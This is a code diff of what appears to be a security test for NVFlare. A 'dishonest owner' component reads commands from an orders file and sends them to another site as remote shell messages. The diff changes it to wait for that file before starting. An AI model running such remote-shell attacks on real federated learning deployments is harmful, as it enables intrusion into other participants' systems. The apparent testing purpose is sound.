@@ -1,7 +1,7 @@
 """Code of a dishonest owner, in its own NVFlare process and with its own certificate.
 
 It asks another site for files by NVFlare's administrative messages, and asks its courier as the server would. What came
-of it is written into the file that ``LIKESET_ATTACK`` names; orders lie beside it.
+of it is written into the file that ``LIKESET_ATTACK`` names; it waits for orders beside that file.
 """
 
 import json
@@ -31,10 +31,12 @@ class Hostile(FLComponent):  # type: ignore[misc]
 def attack(engine: Any) -> None:
     """Everything at one victim."""
     said = Path(os.environ["LIKESET_ATTACK"])
-    orders = json.loads(said.with_name("orders.json").read_text())
+    path = said.with_name("orders.json")
+    while not path.exists():  # until the victim has something to be read
+        time.sleep(0.3)
+    orders = json.loads(path.read_text())
     answers: dict[str, Any] = {}
     try:
-        time.sleep(5.0)  # until the victim is connected, too
         cell = engine.get_cell()
         for name, command in orders["commands"].items():
             request = Message(SysCommandTopic.SHELL, command)
